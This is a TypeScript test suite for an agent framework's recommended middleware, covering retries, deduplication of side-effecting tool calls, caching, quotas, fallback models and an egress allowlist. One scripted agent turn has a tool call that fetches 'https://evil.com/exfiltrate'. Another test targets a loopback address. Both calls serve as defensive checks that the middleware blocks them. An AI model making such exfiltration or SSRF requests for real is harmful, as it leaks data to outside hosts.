import { Agent, ReActCognition } from "@agentkit/agents"
import { Invoker, Quota, RunContext, Usage } from "@agentkit/core"
import { Audit, Memoize, Middleware } from "@agentkit/middleware"
import { FakeLLM, Fixture, makeTestCtx, runWithClock, Turn } from "@agentkit/testing"
import { Tool } from "@agentkit/tools"
import { describe, expect, it } from "@effect/vitest"
import { Effect, Schema } from "effect"
import { countingTool, setup } from "./fixtures.js"

const { replying: model } = FakeLLM
const { request, response, timeoutError: timeout } = Fixture

describe("Middleware.recommended", () => {
  it("builds the documented lists: defaults, and everything on", () => {
    const defaults = Middleware.recommended()
    // chat: telemetry, retry; tool: telemetry, egress, idempotent, retry
    expect(defaults.chatMiddleware).toHaveLength(2)
    expect(defaults.toolMiddleware).toHaveLength(4)
    const all = Middleware.recommended({
      memoize: {},
      quotas: [Quota.unsafeMake({ maxRpm: 60 })],
      meterTools: true,
      fallback: ["backup"],
      audit: { store: Audit.memoryStore() },
      egress: { allow: ["example.com"] }
    })
    // chat: telemetry, memoize, meter, fallback, retry; tool: telemetry, meter, audit, egress, idempotent, retry
    expect(all.chatMiddleware).toHaveLength(5)
    expect(all.toolMiddleware).toHaveLength(6)
    const none = Middleware.recommended({ telemetry: false, retry: false, egress: false, idempotency: false })
    expect(none).toEqual({ chatMiddleware: [], toolMiddleware: [] })
  })

  it.effect("one agent run through the recommended pipelines: every flag drives its behaviour", () => {
    const lookup = countingTool("lookup_order", { sideEffecting: false, idempotent: true }, (n) => {
      if (n === 1) throw new Error("503 from the order service")
      return "order A-771: shipped"
    })
    const charge = countingTool("charge_card", { sideEffecting: true }, () => "charged $10")
    const refund = countingTool("issue_refund", { sideEffecting: true }, () => {
      throw new Error("refund gateway timed out")
    })
    const fetchUrl = countingTool("fetch_url", { sideEffecting: false, idempotent: true, urlArg: "url" })
    const audit = Audit.memoryStore()
    const llm = FakeLLM.script([
      Turn({
        toolCalls: [
          { id: "c1", name: "lookup_order", arguments: { order_id: "A-771" } },
          { id: "c2", name: "charge_card", arguments: { amount: 10, currency: "USD" } },
          { id: "c3", name: "fetch_url", arguments: { url: "https://evil.com/exfiltrate" } }
        ]
      }),
      Turn({
        toolCalls: [
          { id: "c4", name: "charge_card", arguments: { currency: "USD", amount: 10 } },
          { id: "c5", name: "issue_refund", arguments: { amount: 3 } }
        ]
      }),
      Turn({ content: "Done." })
    ])
    const agent = Agent.make({
      name: "support",
      model: "m",
      cognition: ReActCognition.make({ tools: [lookup.tool, charge.tool, refund.tool, fetchUrl.tool] })
    })
    const pipelines = Middleware.recommended({ egress: { allow: ["example.com"] }, audit: { store: audit } })
    return Effect.gen(function*() {
      const exit = yield* runWithClock(
        agent.run("Help with A-771").pipe(Effect.provide(makeTestCtx({ llm, ...pipelines })))
      )
      const result = yield* exit
      expect(result.output).toBe("Done.")
      expect(lookup.count).toBe(2) // retried: idempotent
      expect(charge.count).toBe(1) // the repeat was deduplicated
      expect(refund.count).toBe(1) // not idempotent: at most once
      expect(fetchUrl.count).toBe(0) // refused before it ran
      const toolMessages = (turn: number) =>
        Object.fromEntries(
          llm.requests[turn]!.messages.filter((m) => m.role === "tool").map((
            m
          ) => [(m as { toolCallId: string }).toolCallId, m.content])
        )
      expect(toolMessages(1)).toEqual({
        c1: "order A-771: shipped",
        c2: "charged $10",
        c3: "ERROR: tool 'fetch_url' failed: ToolDenied: egress to 'evil.com' not allowed (not in egress allowlist)"
      })
      expect(toolMessages(2)).toMatchObject({
        c4: "charged $10",
        c5: "ERROR: tool 'issue_refund' failed: ToolExecutionError: refund gateway timed out"
      })
      const decisions = audit.records.map((r) => `${r.callId}:${r.tool}:${r.decision}`).sort()
      expect(decisions).toEqual([
        "c1:lookup_order:executed",
        "c2:charge_card:executed",
        "c3:fetch_url:denied",
        "c4:charge_card:deduplicated",
        "c5:issue_refund:failed"
      ])
    })
  })

  it.effect("chat order: a cache hit skips the quota; fallback gives each model its retries", () => {
    const quota = Quota.unsafeMake({ maxRpm: 1 })
    const llm = model((
      _n,
      req
    ) => (req.model === "primary" ? Effect.fail(timeout()) : Effect.succeed(response({ model: req.model }))))
    const pipelines = Middleware.recommended({
      memoize: { store: Memoize.memoryStore() },
      quotas: [quota],
      fallback: ["backup"],
      retry: { maxAttempts: 2 }
    })
    const layer = setup({ chatModel: llm.layer, ...pipelines, scope: { orgId: 5 } })
    return Effect.gen(function*() {
      const invoker = yield* Invoker
      const first = yield* Effect.flatten(runWithClock(invoker.chat(request("primary"))))
      expect(first.model).toBe("backup")
      expect(llm.requests.map((r) => r.model)).toEqual(["primary", "primary", "backup"])
      // the same call again: served from the cache, so the 1-rpm quota does not refuse it
      const again = yield* invoker.chat(request("primary"))
      // the same answer; the caller (the run's usage) counts a hit as 0
      expect(again).toStrictEqual({ ...first, usage: Usage.zero })
      expect(llm.calls).toBe(3)
      // every request that reached a provider reserved and counted (retries and the fallback too); the hit did not
      expect((yield* RunContext).budget.modelCalls).toBe(3)
    }).pipe(Effect.provide(layer))
  })

  it.effect("a tool without urlArg is not checked; the default egress policy blocks loopback for urlArg tools", () => {
    const plain = Tool.make("echo", {
      description: "Echo the given text back to the caller, unchanged, as its result.",
      parameters: { text: Schema.String },
      sideEffecting: false,
      handler: ({ text }) => text
    })
    const fetchUrl = countingTool("fetch_url", { sideEffecting: false, idempotent: true, urlArg: "url" })
    const layer = setup(Middleware.recommended())
    return Effect.gen(function*() {
      const invoker = yield* Invoker
      expect((yield* invoker.tool({ id: "c1", name: "echo", arguments: { text: "http://127.0.0.1/" } }, plain)).text)
        .toBe(
          "http://127.0.0.1/"
        )
      const denied = yield* Effect.flip(
        invoker.tool({ id: "c2", name: "fetch_url", arguments: { url: "http://127.0.0.1/" } }, fetchUrl.tool)
      )
      expect(denied.message).toBe("egress to private/loopback/link-local host '127.0.0.1' blocked (SSRF)")
      expect(
        (yield* invoker.tool(
          { id: "c3", name: "fetch_url", arguments: { url: "https://example.org/" } },
          fetchUrl.tool
        )).text
      ).toBe("ok")
    }).pipe(Effect.provide(layer))
  })
})
